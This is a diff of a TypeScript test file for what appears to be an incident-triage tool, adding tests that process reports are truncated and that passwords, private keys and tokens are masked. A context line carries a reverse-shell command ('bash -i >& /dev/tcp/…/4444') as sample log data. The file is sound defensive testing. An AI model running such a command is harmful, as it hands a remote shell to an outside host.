@@ -5,6 +5,8 @@ import { defaultConfig } from '../../src/config';
 import { triage } from '../../src/engine';
 import { ExportedLogSource } from '../../src/logs/exported-logs';
 import { maskMarker } from '../../src/evidence/mask';
+import { processLimits, processReports } from '../../src/evidence/processes';
+import type { Finding } from '../../src/notification/schema';
 import { loadSample, logsDir } from '../support/fixtures';
 
 const withSecrets = () => {
@@ -47,5 +49,36 @@ describe('secrets in log lines', () => {
     expect(result.summary.logs[0]!.entries[0]!.text).toBe(`bash -i >& /dev/tcp/203.0.113.45/4444 token=${maskMarker}`);
     expect(result.summary.highlights.find((h) => h.kind === 'indicator_in_logs')!.detail).toContain(`token=${maskMarker}`);
     expect(JSON.stringify(result.summary)).not.toContain('hunter2');
+  });
+});
+
+describe('process reports of hostile size', () => {
+  const twoMb = 2 * 1024 * 1024;
+  const report = (process: Record<string, unknown>, mask = true) => processReports({ processes: [process] } as unknown as Finding, mask)[0]!;
+  const within = (text: string, max: number) => text.length <= max + `…[+${twoMb * 2} chars]`.length;
+
+  it('cut every field to its budget before masking, and mask what the cut left of a secret', () => {
+    const secret = 'S3cr3t-cut-'.repeat(200);
+    const args = ['mysql', 'x'.repeat(twoMb), `--password=${secret}`, `-p${secret}`, ...Array.from({ length: 100 }, () => 'a')];
+    const key = `-----BEGIN OPENSSH PRIVATE KEY-----\n${'b3BlbnNzaC1rZXk'.repeat(1000)}\n-----END OPENSSH PRIVATE KEY-----\n`;
+    const env = [{ name: 'N'.repeat(twoMb), val: 'v' }, { name: 'NOTES', val: `${'x '.repeat(120)}ghp_${'a'.repeat(twoMb)}` }];
+    const result = report({ binary: { path: `/${'d/'.repeat(twoMb)}` }, args, script: { path: '/s', contents: `echo hi\n${key}` }, envVariables: env });
+    expect(result.args).toHaveLength(processLimits.args);
+    expect(result.argsTruncated).toBe(true);
+    expect(result.args.every((arg) => within(arg, processLimits.argChars))).toBe(true);
+    expect(result.args[2]).toMatch(/^--password=\[MASKED\]…\[\+\d+ chars\]$/);
+    expect(result.args[3]).toMatch(/^-p\[MASKED\]…\[\+\d+ chars\]$/);
+    expect(result.script!.excerpt).toMatch(/^echo hi\n-----BEGIN OPENSSH PRIVATE KEY-----\[MASKED\]…\[\+\d+ chars\]$/);
+    expect(result.env![0]!.name.length).toBeLessThanOrEqual(processLimits.envChars + 32);
+    expect(result.env![1]!.value).toMatch(/\[MASKED\]…\[\+\d+ chars\]$/);
+    expect(within(result.binary, processLimits.pathChars)).toBe(true);
+    expect(JSON.stringify(result)).not.toMatch(/S3cr3t|b3BlbnNz|ghp_a/);
+  });
+
+  it('are bounded the same with masking off', () => {
+    const result = report({ args: ['sh', 'y'.repeat(twoMb)], script: { contents: 'z'.repeat(twoMb) }, envVariables: [{ name: 'A', val: 'w'.repeat(twoMb) }] }, false);
+    expect(within(result.args[1]!, processLimits.argChars)).toBe(true);
+    expect(within(result.script!.excerpt!, processLimits.scriptChars)).toBe(true);
+    expect(within(result.env![0]!.value, processLimits.envChars)).toBe(true);
   });
 });
